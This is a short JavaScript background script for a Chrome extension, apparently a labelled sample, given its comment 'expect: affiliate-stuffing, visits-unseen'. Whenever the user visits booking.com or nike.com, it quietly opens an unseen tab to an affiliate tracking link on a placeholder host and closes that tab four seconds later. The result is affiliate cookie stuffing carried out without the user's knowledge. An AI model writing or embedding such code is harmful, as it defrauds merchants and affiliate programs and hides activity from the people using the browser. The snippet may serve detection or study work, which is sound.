const MAP = { 'booking.com': 'https://go.partner-track.example/c/booking?aff=ph123', 'nike.com': 'https://go.partner-track.example/c/nike?aff=ph123' };
const seen = {};
chrome.webNavigation.onBeforeNavigate.addListener(async d => {
  if (d.frameId) return;
  const h = new URL(d.url).hostname.replace(/^www\./, '');
  const a = MAP[h];
  if (!a || seen[h] > Date.now() - 36e5) return;
  seen[h] = Date.now();
  // expect: affiliate-stuffing, visits-unseen
  const t = await chrome.tabs.create({ url: a, active: false });
  setTimeout(() => chrome.tabs.remove(t.id), 4000);
});
